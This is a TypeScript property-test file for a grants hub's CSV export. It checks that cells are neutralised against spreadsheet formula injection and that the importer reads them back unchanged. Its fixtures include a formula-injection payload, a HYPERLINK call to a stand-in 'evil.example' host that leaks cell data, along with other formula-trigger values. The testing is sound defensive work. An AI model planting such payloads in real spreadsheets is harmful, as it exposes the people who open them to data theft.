// CSV injection (OWASP "CSV Injection"): no text cell the hub writes starts a formula, and what the hub's CSV says
// reads back, through the importer's own column mapping, as it was written.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  grantToRow,
  neutraliseCell,
  rowToGrant,
  unneutraliseCell,
} from '../../shared/threesixty/csv-columns.ts';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
/** Beyond OWASP's list: a line feed, fullwidth forms, and any of them after leading spaces. */
const MORE = [
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u00a0+',
  '\u3000＝',
  '  -',
  '\ufeff@',
  '\u2060=',
  '\u000b=',
  '\f+',
  '\u200d@',
];
/** A cell starts a formula if, past any white space or invisible format characters, it starts with one of these. */
const startsFormula = (cell: string) => /^(?:[\t\r\n]|[\s\p{Cf}]*[=+\-@＝＋－＠])/u.test(cell);

describe('CSV cells', () => {
  it('never start with a formula character, and read back exactly', () => {
    const text = fc.oneof(
      fc.string(),
      fc
        .tuple(fc.constantFrom("'", "''", ''), fc.constantFrom(...TRIGGERS, ...MORE), fc.string())
        .map((p) => p.join('')),
    );
    fc.assert(
      fc.property(text, (s) => {
        const cell = neutraliseCell(s);
        expect(TRIGGERS.includes(cell[0] ?? '')).toBe(false);
        expect(startsFormula(cell)).toBe(false);
        expect(unneutraliseCell(cell)).toBe(s);
      }),
      { numRuns: 2000 },
    );
  });

  it('neutralises a hostile grant row and the importer reads it back as written', () => {
    const grant = {
      id: '360G-x-1',
      title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      description: '+1 555 0100 (call)',
      currency: 'GBP',
      amountAwarded: -500,
      awardDate: '2020-01-01',
      recipientOrganization: [{ id: 'GB-CHC-1', name: '@SUM(1+1)' }],
      fundingOrganization: [{ id: 'GB-CHC-2', name: "'=already quoted" }],
      grantProgramme: [{ title: '\tTabbed' }],
      beneficiaryLocation: [{ name: ' =1+1' }, { name: '＝1+1' }],
    };
    const row = grantToRow(grant);
    for (const [title, value] of Object.entries(row)) {
      if (typeof value === 'string') expect(TRIGGERS, title).not.toContain(value[0]);
    }
    expect(row.Title).toBe(`'${grant.title}`);
    // Numbers are numbers, not text: a negative amount stays -500.
    expect(row['Amount Awarded']).toBe(-500);
    const back = rowToGrant(Object.fromEntries(Object.entries(row).map(([k, v]) => [k, String(v)]))).grant;
    expect(back).toMatchObject({
      title: grant.title,
      description: grant.description,
      recipientOrganization: [{ name: '@SUM(1+1)' }],
      fundingOrganization: [{ name: "'=already quoted" }],
      grantProgramme: [{ title: '\tTabbed' }],
    });
    expect(row['Beneficiary Location:Name']).toBe("' =1+1");
    expect(row['Beneficiary Location:1:Name']).toBe("'＝1+1");
  });
});
